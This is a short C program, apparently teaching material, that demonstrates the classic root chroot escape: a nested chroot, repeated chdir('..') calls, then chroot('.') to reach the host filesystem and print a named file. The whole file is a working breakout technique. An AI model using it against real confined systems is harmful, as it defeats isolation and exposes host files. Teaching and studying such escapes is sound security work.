/* escape-chroot: climb out of a chroot, which root can do in four calls.
 * Usage: escape-chroot PATH.  Prints the host's file; ends with 1 if there is
 * none, because "up" led nowhere.  See chroot(2): "This call does not change
 * the current working directory".  Closed by lesson 03. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

/* ".." stops at the root directory, and only there.  A second chroot moves the
 * root below us: we are outside of it and never meet it on the way up. */
static int
escape(void)
{
    if (chdir("/") == -1 || chroot("tmp") == -1)
        return -1;
    for (int level = 0; level < 64; level++)
        if (chdir("..") == -1)
            return -1;
    return chroot(".");
}

int
main(int argc, char **argv)
{
    char text[4096];

    if (argc != 2)
        return 2;
    if (escape() == -1) {
        int result = errno == EPERM ? 1 : 2;
        perror("escape");
        return result;
    }
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (fd == -1) {
        perror("open");
        return 1;
    }
    ssize_t length = read(fd, text, sizeof(text));
    if (length == -1 || write(STDOUT_FILENO, text, (size_t)length) != length)
        return 2;
    return 0;
}
